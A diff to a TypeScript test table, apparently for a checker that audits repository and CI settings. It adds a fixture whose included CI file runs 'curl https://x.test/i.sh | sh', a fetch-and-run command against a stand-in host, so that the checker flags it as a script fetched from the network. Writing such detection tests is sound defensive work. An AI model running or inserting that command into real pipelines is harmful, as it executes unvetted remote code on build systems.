@@ -242,6 +242,24 @@ const ROWS: Row[] = [
     'push_rules amber push_rules_message',
     settings({ pushRule: { ...NO_RULES, commit_message_regex: '^SHOP-' } }),
   ],
+  [
+    // A job of a file that the project includes.
+    'ci_checks amber ci_script_from_network',
+    all(
+      havingFile(
+        webshop,
+        'main',
+        'ci/fetch.yml',
+        'fetched: {script: ["curl https://x.test/i.sh | sh"]}\n',
+      ),
+      havingFile(
+        webshop,
+        'main',
+        '.gitlab-ci.yml',
+        'include: {local: /ci/fetch.yml}\ntest: {script: [make]}\n',
+      ),
+    ),
+  ],
   ['instructions amber instructions_missing', havingFile(webshop, 'main', 'CLAUDE.md', null)],
   ['instructions amber instructions_no_runner', havingFile(webshop, 'main', 'CLAUDE.md', '# Shop')],
   ['ref amber ref_elsewhere', project({ ciConfigPath: '.gitlab-ci.yml:main@acme/legacy' })],
